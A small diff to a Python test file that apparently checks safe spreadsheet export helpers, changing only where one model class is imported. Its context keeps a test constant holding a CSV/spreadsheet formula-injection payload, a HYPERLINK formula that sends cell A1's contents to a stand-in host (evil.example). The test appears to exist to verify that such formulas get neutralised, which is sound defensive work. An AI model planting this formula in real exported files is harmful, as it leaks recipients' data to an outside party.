@@ -7,7 +7,7 @@ import io
 
 import pytest
 
-from samen.sharing.models import ProcessingRule
+from samen.core.models import ProcessingRule
 from samen.spreadsheets import SafeDictWriter, SafeWriter, safe_cell
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'
